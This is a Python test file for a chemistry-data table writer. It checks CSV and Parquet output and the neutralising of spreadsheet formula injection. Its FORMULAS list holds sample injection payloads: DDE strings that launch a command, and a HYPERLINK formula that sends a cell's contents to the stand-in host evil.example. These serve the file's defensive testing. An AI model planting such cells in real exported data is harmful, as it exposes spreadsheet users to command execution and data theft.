import csv
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rdkit import Chem, rdBase

from rmat_hf.data.featurization import featurize_molecules
from rmat_hf.data.sources import open_table
from rmat_hf.data.table_writer import (
    TableWriter,
    count_by_example,
    count_failures,
    starts_like_formula,
    validate_output_path,
)
from rmat_hf.errors import UserError
from rmat_hf.model.processing_rmat import RMatProcessor


def test_csv_keeps_input_cells_and_adds_columns(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(b'smiles,id,"a, b"\r\nCCO,007," x "\r\nC,,"say ""hi""\nnow"\r\n')
    table = open_table(source)
    output = tmp_path / "out.csv"
    writer = TableWriter(
        output,
        input_schema=table.schema,
        added_columns={"prediction_y": "number", "error": "text"},
    )
    with writer:
        for chunk in table.iterate_chunks(1):
            value = 0.1 if chunk.columns["id"].to_pylist() == ["007"] else None
            writer.write({**chunk.columns, "prediction_y": [value], "error": ["bad, row"]})
    with output.open(newline="") as stream:
        assert list(csv.reader(stream)) == [
            ["smiles", "id", "a, b", "prediction_y", "error"],
            ["CCO", "007", " x ", "0.1", "bad, row"],
            ["C", "", 'say "hi"\nnow', "", "bad, row"],
        ]


def test_csv_writes_nan_as_an_empty_cell_and_floats_exactly(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with TableWriter(path, added_columns={"y": "number"}) as writer:
        writer.write({"y": [float("nan"), 1 / 3, np.float64(2.5), np.float32("nan")]})
    assert path.read_text() == 'y\n""\n0.3333333333333333\n2.5\n""\n'


def test_parquet_keeps_the_types_of_the_input(tmp_path: Path) -> None:
    schema = pa.schema(
        {
            "smiles": pa.large_string(),
            "n": pa.int16(),
            "half": pa.float16(),
            "when": pa.timestamp("ns"),
            "kind": pa.dictionary(pa.int32(), pa.string()),
            "vector": pa.list_(pa.float32()),
        }
    )
    columns = {
        "smiles": ["C", None],
        "n": [3, None],
        "half": [np.float16(0.5), None],
        "when": [pd.Timestamp("2024-01-01 00:00:00.000000001"), None],
        "kind": ["a", None],
        "vector": [[0.1], None],
    }
    source, output = tmp_path / "in.parquet", tmp_path / "out.parquet"
    pq.write_table(pa.table(columns, schema=schema), source)
    table = open_table(source)
    with TableWriter(output, input_schema=table.schema, added_columns={"error": "text"}) as writer:
        for chunk in table.iterate_chunks(1):
            writer.write({**chunk.columns, "error": [None]})
    written = pq.read_table(output)
    assert written.schema == schema.append(pa.field("error", pa.string()))
    assert written.drop_columns("error").to_pylist() == pq.read_table(source).to_pylist()


def test_parquet_embedding_column_is_a_list_of_float32(tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    with TableWriter(path, added_columns={"embedding": "vector", "error": "text"}) as writer:
        writer.write({"embedding": [None], "error": ["bad"]})
        writer.write({"error": [None], "embedding": [[0.5, 1.5]]})
        writer.write({"embedding": [np.array([2.5, 3.5], dtype=np.float32)], "error": [None]})
    table = pq.read_table(path)
    assert table.schema.field("embedding").type == pa.list_(pa.float32())
    assert table.column("embedding").to_pylist() == [None, [0.5, 1.5], [2.5, 3.5]]


@pytest.mark.parametrize("extension", ["csv", "parquet"])
def test_table_without_rows_has_its_columns(tmp_path: Path, extension: str) -> None:
    path = tmp_path / f"out.{extension}"
    with TableWriter(path, added_columns={"y": "number", "error": "text"}):
        pass
    table = open_table(path)
    assert (table.column_names, table.num_rows) == (["y", "error"], 0)


def test_parquet_of_a_pandas_frame_can_be_read_after_adding_a_column(
    tmp_path: Path,
) -> None:
    source, output = tmp_path / "in.parquet", tmp_path / "out.parquet"
    pd.DataFrame({"smiles": ["C", "N"]}, index=[5, 6]).to_parquet(source)
    table = open_table(source)
    with TableWriter(output, input_schema=table.schema, added_columns={"y": "number"}) as writer:
        for chunk in table.iterate_chunks(9):
            writer.write({**chunk.columns, "y": [1.0, 2.0]})
    assert list(pd.read_parquet(output).columns) == ["smiles", "__index_level_0__", "y"]


@pytest.mark.parametrize("extension", ["csv", "parquet"])
@pytest.mark.parametrize("error", [RuntimeError, KeyboardInterrupt])
def test_error_leaves_the_old_file_and_no_temporary_file(
    tmp_path: Path, extension: str, error: type[BaseException]
) -> None:
    path = tmp_path / f"out.{extension}"
    path.write_text("old")
    with pytest.raises(error), TableWriter(path, added_columns={"y": "number"}) as writer:
        writer.write({"y": [1.0]})
        raise error
    assert path.read_text() == "old"
    assert os.listdir(tmp_path) == [path.name]


def test_input_file_can_be_replaced_by_the_output(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    path.write_text("smiles\nC\nN\n")
    table = open_table(path)
    with TableWriter(path, input_schema=table.schema, added_columns={"y": "number"}) as writer:
        for chunk in table.iterate_chunks(1):
            writer.write({**chunk.columns, "y": [1.0]})
    assert path.read_text() == "smiles,y\nC,1.0\nN,1.0\n"


def test_column_that_the_output_adds_may_not_be_in_the_input(tmp_path: Path) -> None:
    schema = pa.schema({"smiles": pa.string(), "error": pa.string()})
    with pytest.raises(UserError, match="already has a column 'error'"):
        TableWriter(tmp_path / "out.csv", input_schema=schema, added_columns={"error": "text"})
    assert os.listdir(tmp_path) == []


def test_times_that_python_cannot_hold_are_cells_of_a_csv_file(tmp_path: Path) -> None:
    columns = {
        "day": pa.array([2**30, 0], pa.date32()),
        "when": pa.array([0, 1], pa.timestamp("ns", tz="Mars/Phobos")),
        "time": pa.array([1, None], pa.time64("ns")),
    }
    rows = pa.table(columns)
    with TableWriter(tmp_path / "out.csv", input_schema=rows.schema) as writer:
        writer.write(dict(zip(rows.column_names, rows.columns, strict=True)))
    assert (tmp_path / "out.csv").read_text().splitlines()[1:] == [
        "<value out of range: 1073741824>,1970-01-01 00:00:00.000000000Z,00:00:00.000000001",
        "1970-01-01,1970-01-01 00:00:00.000000001Z,",
    ]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("out.xlsx", "Use .csv or .parquet"),
        ("out", "Use .csv or .parquet"),
        ("missing/out.csv", "does not exist .* Create it first"),
        ("file.txt/out.csv", "does not exist"),
        ("folder.csv", "is a folder"),
    ],
)
def test_unusable_output_is_refused_before_any_work(tmp_path: Path, name: str, words: str) -> None:
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "file.txt").write_text("")
    for check in (validate_output_path, TableWriter):
        with pytest.raises(UserError, match=words):
            check(tmp_path / name)


# Formulas

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-OH",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]
HARMLESS = [
    *("-1.2", "+3", "-1e-5", "-1,5", "-12 000,5", "-.5", "-inf", "+nan", "-5%", " -7 "),
    *("-", "--", "+", "=", "@", "+/-", "", "'", "'=1+1", "CCO", "[Na+].[Cl-]", "(-)-menthol"),
    *("\tCCO", "a=b", "1-2", "2024-01-01"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_recognized(text: str) -> None:
    assert starts_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_signs_and_other_text_are_no_formulas(text: str) -> None:
    assert not starts_like_formula(text)


@given(st.floats())
def test_no_number_is_a_formula(number: float) -> None:
    for text in (repr(number), f"{number:+}", f"{number:e}", f"{number:.3f}"):
        assert not starts_like_formula(text)


@given(st.sampled_from("=+-@"), st.text("CNOcn123()=#[]+-@", max_size=6))
def test_no_valid_smiles_is_a_formula(start: str, rest: str) -> None:
    with rdBase.BlockLogs():
        assert Chem.MolFromSmiles(start + rest) is None


def test_a_csv_file_gets_an_apostrophe_and_a_count_and_is_the_original_without_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    rows = [["=2+3", "smiles", "y"]] + [[text, "CCO", "-1.2"] for text in FORMULAS + HARMLESS]
    with source.open("w", newline="") as stream:
        csv.writer(stream).writerows(rows)
    table = open_table(source)
    with TableWriter(
        output, input_schema=table.schema, added_columns={"error": "text", "-z": "number"}
    ) as writer:
        for chunk in table.iterate_chunks(7):
            added = {"error": [None] * chunk.num_rows, "-z": [-0.5] * chunk.num_rows}
            writer.write({**chunk.columns, **added})
    with output.open(newline="") as stream:
        written = list(csv.reader(stream))
    # the name of an added column is that of a label, text of a stranger too
    assert written[0] == ["'=2+3", "smiles", "y", "error", "'-z"]
    assert [row[0] for row in written[1:]] == [f"'{text}" for text in FORMULAS] + HARMLESS
    assert {tuple(row[1:]) for row in written[1:]} == {("CCO", "-1.2", "", "-0.5")}
    assert caplog.messages == [
        f"{output}: an apostrophe in front keeps spreadsheets from running "
        f"{len(FORMULAS) + 2} cells like a formula."
    ]


def test_keep_leaves_every_cell_as_it_is(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "out.csv"
    with TableWriter(path, added_columns={"x": "text"}, csv_formulas="keep") as writer:
        writer.write({"x": FORMULAS})
    with path.open(newline="") as stream:
        assert [row[0] for row in csv.reader(stream)] == ["x", *FORMULAS]
    assert caplog.messages == []


def test_reasons_are_counted_without_what_is_of_one_molecule() -> None:
    errors = ["cannot parse 'C1'", None, "cannot parse 'N1'", ""]
    assert count_failures(errors) == {"cannot parse '…'": 2, "": 2}
    assert count_failures(["row 3: EC50 is 0.5", "row 41: EC50 is 1e-05"]) == {
        "row N: EC50 is N": 2
    }
    assert count_by_example(["row 3: EC50 is 0.5", "no label", None, "row 41: EC50 is 1"]) == {
        "e.g. row 3: EC50 is 0.5": 2,
        "no label": 1,
    }
    # cells of two labels are two kinds
    lost = ["label 'Ames' is 'high', no", "label 'Tox' is 'low', no", "label 'Tox' is 'x', no"]
    assert count_by_example(lost) == {
        "e.g. label 'Tox' is 'low', no": 2,
        "e.g. label 'Ames' is 'high', no": 1,
    }
    for smiles in (["C1CC", "CC2CCC"], ["C" * 20, "C" * 30]):
        outcomes = featurize_molecules(smiles, RMatProcessor(max_atoms=5))
        assert list(count_failures(outcome.failure for outcome in outcomes).values()) == [2]
